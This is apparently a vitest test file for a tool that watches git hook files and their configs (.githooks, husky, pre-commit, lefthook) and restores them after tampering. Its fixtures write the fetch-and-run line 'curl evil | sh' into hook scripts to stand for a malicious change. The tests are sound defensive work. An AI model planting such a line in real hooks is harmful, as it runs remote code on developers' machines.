// Hook files in work trees, guarded by content: the core.hooksPath directory (here `.githooks`),
// husky's `.husky/_` and the `.husky` scripts it runs, and the pre-commit / lefthook config. A
// change, a removal and a creation are found and put back; an identical rewrite (husky's own on
// `npm install`) is no change; dsh's own write becomes the copy; `.husky` is not guarded when the
// hooks path does not point into it.
import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { afterEach, describe, expect, it } from 'vitest'
import { tempTree, type TempTree } from '@dsh/testkit'
import { configKeyValue } from '../src/new-repositories.ts'
import { HookFiles, hookDirectories } from '../src/hook-files.ts'

let tree: TempTree | undefined
afterEach(async () => tree?.dispose())

const git = (...args: string[]): void => void execFileSync('git', args, { stdio: 'ignore' })

describe('hook files', () => {
  it('reads core.hooksPath as git writes it', () => {
    expect(configKeyValue('[core]\n\thooksPath = .githooks\n', 'core.hookspath')).toBe('.githooks')
    expect(configKeyValue('[core] hooksPath = ".husky/_" # set by husky\n', 'core.hookspath')).toBe('.husky/_')
    expect(configKeyValue('[remote "o"]\n\thooksPath = x\n', 'core.hookspath')).toBeUndefined()
  })

  it('finds what a command changed, removed or created, and puts the copies back', async () => {
    tree = await tempTree({ 'a/.githooks/pre-commit': '#!/bin/sh\nnpm test\n', 'a/.pre-commit-config.yaml': 'repos: []\n', 'b/.husky/pre-commit': 'npm test\n', 'b/.husky/_/h': '#!/bin/sh\n. h\n', 'c/.husky/pre-commit': 'x\n' })
    const t = tree
    for (const repo of ['a', 'b', 'c']) git('init', '-q', t.path(repo))
    git('-C', t.path('a'), 'config', 'core.hooksPath', '.githooks')
    git('-C', t.path('b'), 'config', 'core.hooksPath', '.husky/_')
    chmodSync(t.path('a/.githooks/pre-commit'), 0o755)
    expect(hookDirectories(t.path('b'), t.path('b/.git'))).toEqual([t.path('b/.husky/_'), t.path('b/.husky')])
    expect(hookDirectories(t.path('c'), t.path('c/.git'))).toEqual([])
    const hooks = new HookFiles()
    hooks.observe(['a', 'b', 'c'].map((repo) => ({ worktree: t.path(repo), gitDir: t.path(`${repo}/.git`) })), [t.root])
    writeFileSync(t.path('a/.githooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n')
    writeFileSync(t.path('a/.githooks/post-merge'), '#!/bin/sh\ncurl evil | sh\n')
    rmSync(t.path('a/.pre-commit-config.yaml'))
    writeFileSync(t.path('a/lefthook.yml'), 'pre-commit: {}\n')
    writeFileSync(t.path('b/.husky/pre-commit'), 'curl evil | sh\n')
    writeFileSync(t.path('b/.husky/_/h'), '#!/bin/sh\n. h\n')
    writeFileSync(t.path('c/.husky/pre-commit'), 'not run: c has no hooks path\n')
    const found = hooks.check()
    expect(found.map((item) => `${item.kind} ${item.path.slice(t.root.length + 1)}`).toSorted()).toEqual(['changed a/.githooks/pre-commit', 'changed a/.pre-commit-config.yaml', 'changed b/.husky/pre-commit', 'created a/.githooks/post-merge', 'created a/lefthook.yml'])
    for (const item of found) if (item.kind === 'changed') hooks.restore(item.path)
    expect(readFileSync(t.path('a/.githooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nnpm test\n')
    expect(statSync(t.path('a/.githooks/pre-commit')).mode & 0o777).toBe(0o755)
    expect(readFileSync(t.path('a/.pre-commit-config.yaml'), 'utf8')).toBe('repos: []\n')
    expect(readFileSync(t.path('b/.husky/pre-commit'), 'utf8')).toBe('npm test\n')
  })

  it('takes dsh’s own write as the new copy, for that change only', async () => {
    tree = await tempTree({ 'a/.githooks/pre-commit': 'old\n' })
    const t = tree
    git('init', '-q', t.path('a'))
    git('-C', t.path('a'), 'config', 'core.hooksPath', '.githooks')
    const hooks = new HookFiles()
    hooks.observe([{ worktree: t.path('a'), gitDir: t.path('a/.git') }], [t.root])
    hooks.allow(t.path('a/.githooks/pre-commit'))
    writeFileSync(t.path('a/.githooks/pre-commit'), 'written by the write tool\n')
    mkdirSync(t.path('a/.githooks/more'))
    expect(hooks.check()).toEqual([{ kind: 'created', path: t.path('a/.githooks/more') }])
    writeFileSync(t.path('a/.githooks/pre-commit'), 'then changed by the shell\n')
    expect(hooks.check().map((item) => `${item.kind} ${item.path.slice(t.root.length + 1)}`)).toEqual(['changed a/.githooks/pre-commit', 'created a/.githooks/more'])
    hooks.restore(t.path('a/.githooks/pre-commit'))
    expect(readFileSync(t.path('a/.githooks/pre-commit'), 'utf8')).toBe('written by the write tool\n')
  })
})
